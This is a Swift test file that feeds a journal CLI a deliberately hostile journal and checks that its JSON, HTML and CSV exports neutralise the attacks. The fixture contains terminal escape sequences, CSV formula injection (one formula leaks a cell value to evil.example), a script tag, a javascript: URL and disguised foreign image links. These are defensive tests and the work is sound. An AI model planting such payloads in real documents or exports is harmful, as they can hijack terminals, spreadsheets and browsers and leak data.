import Foundation
import XCTest

/// A journal written to attack whoever reads its reports: terminal escapes, spreadsheet formulas,
/// scripts and photos on other hosts, read by every command in JSON, HTML and CSV. (Control
/// characters in text output: `ControlCharacterTests`.)
final class HostileJournalTests: XCTestCase {
    var dir: String!
    var file: [String] { ["-f", dir + "/journal.md"] }

    /// The command with the journal and, where it takes one, a fixed clock.
    func run(_ command: [String], _ extra: [String] = []) -> CLIResult {
        let clock = ["check", "stats"].contains(command[0]) || command.contains("--now") ? [] : ["--today", "2026-11-21"]
        return CLI.run(command + file + clock + extra)
    }

    static let journal = """
        ## Settings
        - goal caffeine <= 400 mg
        - habit meditate \u{1B}[2J
        - med metformin 500 mg at 08:00

        ## 2026-11-20 Friday
        - 08:00 drink espresso -- \u{1B}]0;pwned\u{07}
        - 08:05 took metformin
        - [x] meditate
        - mood 4 \u{1B}[31mred\u{1B}[0m
        - grateful: \u{1B}]8;;http://evil.example\u{07}a link\u{1B}]8;;\u{07}
        - =HYPERLINK("http://evil.example/"&A1,"click")
        - +SUM(1,2)
        - @SUM(1,2)
        - \u{1B}[2J cleared the screen \u{08}\u{08} and \u{0B} tabbed \u{7F}
        - [ ] call \u{1B}[5mthe bank\u{1B}[0m due 2026-11-22
        - 10:00 event dentist \u{1B}[2J @ \u{1B}]0;where\u{07}
        - <script>alert(1)</script>
        - ![p](\\/evil.example/p.png)
        - ![r](/\\/evil.example/r.png)
        - ![v](\u{0B}//evil.example/v.png)
        - ![s](javascript:alert(1))

        """

    override func setUp() {
        dir = NSTemporaryDirectory() + "hostile-\(UUID().uuidString)"
        try! FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        try! Self.journal.write(toFile: dir + "/journal.md", atomically: false, encoding: .utf8)
    }

    override func tearDown() { try? FileManager.default.removeItem(atPath: dir) }

    /// No control character but the line feed and the tab: nothing the terminal would act on.
    func assertNoControls(_ s: String, _ what: String, allowing extra: Set<Unicode.Scalar> = [], file: StaticString = #filePath, line: UInt = #line) {
        let allowed: Set<Unicode.Scalar> = Set(["\n", "\t"]).union(extra)
        if let c = s.unicodeScalars.first(where: { ($0.value < 0x20 || (0x7F...0x9F).contains($0.value)) && !allowed.contains($0) }) {
            XCTFail("\(what) holds the control character U+\(String(c.value, radix: 16)):\n\(s)", file: file, line: line)
        }
    }

    func testJSONOutputsParse() {
        let commands: [[String]] = [["check"], ["day", "2026-11-20"], ["report"], ["todo", "--all"], ["streaks"], ["meds"],
                                    ["calendar", "2026-11"], ["trends", "--days", "7"], ["export", "--format", "json"]]
        for command in commands {
            let r = run(command, command.contains("--format") ? [] : ["--format", "json"])
            XCTAssertNotNil(try? JSONSerialization.jsonObject(with: Data(r.stdout.utf8)), "\(command) --format json does not parse:\n\(r.stdout.prefix(500))")
        }
    }

    func testHTMLHasNoScriptAndNoForeignImage() {
        for command in [["day", "2026-11-20"], ["report"], ["streaks"], ["calendar", "2026-11"], ["trends", "--days", "7"]] {
            let r = run(command, ["--format", "html"])
            XCTAssertEqual(r.code == 2, false, "\(command): \(r.stderr)")
            XCTAssertNil(r.stdout.range(of: "<script", options: .caseInsensitive), "\(command) --format html")
            for src in r.stdout.components(separatedBy: " src=\"").dropFirst() {
                let value = src.prefix { $0 != "\"" }
                XCTAssertFalse(value.contains("evil.example") || value.lowercased().hasPrefix("javascript:"), "\(command): src=\"\(value)\"")
            }
            assertNoControls(r.stdout, "\(command) --format html")
            if command[0] == "day" {
                XCTAssertTrue(r.stdout.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "the note is shown as text")
                XCTAssertEqual(r.stdout.components(separatedBy: "<figure>").count - 1, 4, "each photo has its place, shown or not")
            }
        }
    }

    func testCSVCellsAreNeverFormulas() {
        for extra in [[], ["--daily"]] {
            let r = run(["export", "--format", "csv"] + extra)
            XCTAssertEqual(r.code == 2, false, r.stderr)
            for line in r.stdout.split(whereSeparator: \.isNewline) {
                XCTAssertNil(line.range(of: #"(^|,)"?[=+@]"#, options: .regularExpression), "a formula in: \(line)")
            }
            assertNoControls(r.stdout, "export --format csv", allowing: ["\r"])
        }
    }
}
